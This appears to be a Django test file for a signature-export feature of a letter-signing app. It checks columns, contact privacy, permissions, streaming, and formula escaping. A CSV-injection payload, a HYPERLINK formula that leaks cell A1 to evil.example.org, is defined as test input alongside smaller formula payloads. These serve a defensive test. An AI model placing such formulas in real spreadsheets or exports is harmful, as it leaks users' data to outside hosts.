"""The organizers export the signatures: CSV, or CSV for a spreadsheet where no cell runs as a formula."""

import csv
import io

import pytest
from django.http import StreamingHttpResponse

from r2p_letters.signatures.models import Signature
from r2p_letters.signatures.services import signature_merge, signature_reject

from ..helpers.signing import many, sign, url

HYPERLINK = '=HYPERLINK("https://evil.example.org/?leak="&A1,"Click for details")'


def export(client, sign_on, **params):
    response = client.get(url("export", sign_on), params)
    assert response.status_code == 200, response
    return response, b"".join(response.streaming_content).decode("utf-8")


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_it_exports_one_row_per_signature_that_was_not_merged(as_, open_sign_on):
    kept = sign(open_sign_on, "Asia Pacific Centre", city="Brisbane", country="AU")
    sign(open_sign_on, "Pending Partners", confirm=False)
    signature_reject(signature=sign(open_sign_on, "Rejected Partners"))
    signature_merge(duplicate=sign(open_sign_on, "APC Brisbane"), into=kept)

    response, text = export(as_("owner"), open_sign_on, format="csv")

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="el-fasher-signatures.csv"' in response["Content-Disposition"]
    header, *rows = rows_of(text)
    assert header == [
        "Printed line",
        "Organization",
        "City",
        "Country",
        "Status",
        "Version",
        "Signed at (America/New_York)",
        "Confirmed at (America/New_York)",
        "Lead",
        "Late",
        "Capacity",
        "Authorized to sign for the organization",
        "Who may see the name",
        "May be contacted by the lead organization",
    ]
    assert sorted(row[1] for row in rows) == ["Asia Pacific Centre", "Pending Partners", "Rejected Partners"]
    apc = next(row for row in rows if row[1] == "Asia Pacific Centre")
    assert apc[0] == "Asia Pacific Centre (Brisbane, Australia)"
    assert apc[3] == "Australia"
    assert apc[4:6] == ["Confirmed", "1"]
    assert apc[8:] == [
        "no",
        "no",
        "On behalf of an organization",
        "yes",
        "Public: named on the letter's page and in its PDF",
        "no",
    ]


def test_without_contacts_no_email_and_no_name_leaves(as_, open_sign_on):
    sign(open_sign_on, "Private Partners", email="director@private.example.org", person_name="Hidden Person")

    for kind in ("csv", "excel"):
        _response, text = export(as_("owner"), open_sign_on, format=kind)
        assert "director@private.example.org" not in text
        assert "Hidden Person" not in text
        assert "@" not in text


def test_with_contacts_the_signers_names_titles_and_emails_come_along(as_, open_sign_on):
    sign(open_sign_on, "Private Partners", email="director@private.example.org", person_name="Hidden Person")

    response, text = export(as_("editor"), open_sign_on, format="csv", contacts="1")

    header, row = rows_of(text)
    assert header[4:7] == ["Signer", "Title", "Email"]
    assert row[4:7] == ["Hidden Person", "President", "director@private.example.org"]
    assert "contacts" in response["Content-Disposition"]
    assert "ip" not in [cell.lower() for cell in header]


@pytest.mark.parametrize("kind", ["excel", "csv"])
def test_a_formula_in_a_name_is_neutralized_in_both_exports(as_, open_sign_on, kind):
    sign(
        open_sign_on,
        HYPERLINK,
        city="+1 Dakar",
        country="SN",
        email="attacker@example.org",
        person_name="@SUM(A1:A9)",
        person_title="-2+3",
    )

    _response, text = export(as_("owner"), open_sign_on, format=kind, contacts="1")

    assert text.startswith("\ufeff") == (kind == "excel")
    header, row = rows_of(text)
    assert row[1] == "'" + HYPERLINK
    assert row[2] == "'+1 Dakar"
    assert row[4:6] == ["'@SUM(A1:A9)", "'-2+3"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in header + row)


@pytest.mark.parametrize("kind", ["excel", "csv"])
@pytest.mark.parametrize("start", ["\t", "\r", "  ", '"', "'", ' "', "\u00a0", "＝"])
def test_a_formula_after_a_tab_return_spaces_or_quotes_is_neutralized_too(as_, open_sign_on, kind, start):
    signature = sign(open_sign_on, "Whitespace Partners")
    Signature.objects.filter(pk=signature.pk).update(organization=start + "=1+1")

    _response, text = export(as_("owner"), open_sign_on, format=kind)

    assert rows_of(text)[1][1] == "'" + start + "=1+1"


def test_cells_that_are_no_formula_are_exported_as_typed(as_, open_sign_on):
    sign(open_sign_on, "Médecins Sans Frontières = MSF", city="Dakar", country="SN")

    _response, text = export(as_("owner"), open_sign_on, format="csv")

    assert not text.startswith("\ufeff")
    assert rows_of(text)[1][1] == "Médecins Sans Frontières = MSF"


def test_the_export_reads_the_signatures_in_chunks_as_it_streams(as_, open_sign_on):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    many(open_sign_on, 2500)
    response = as_("owner").get(url("export", open_sign_on), {"format": "excel"})

    with CaptureQueriesContext(connection) as captured:
        first = next(iter(response.streaming_content))
    assert first.decode() == "\ufeff"
    with CaptureQueriesContext(connection) as captured:
        rest = b"".join(response.streaming_content).decode()
    assert len(rows_of(rest)) == 2501
    # One query per chunk of 1,000 on SQLite; PostgreSQL reads them from one server-side cursor.
    assert 1 <= len(captured) <= 4


def test_an_unknown_format_goes_back_to_the_dashboard_with_a_message(as_, open_sign_on):
    page = as_("owner").get(url("export", open_sign_on), {"format": "xlsx"}, follow=True)

    assert page.status_code == 200
    assert "Choose the export" in page.text


def test_only_organizers_export(as_, open_sign_on):
    sign(open_sign_on, "Private Partners", email="director@private.example.org")

    assert as_("viewer").get(url("export", open_sign_on), {"format": "csv", "contacts": "1"}).status_code == 403
    assert as_("outsider").get(url("export", open_sign_on), {"format": "csv"}).status_code == 404
    assert as_(None).get(url("export", open_sign_on), {"format": "csv"}).status_code == 302
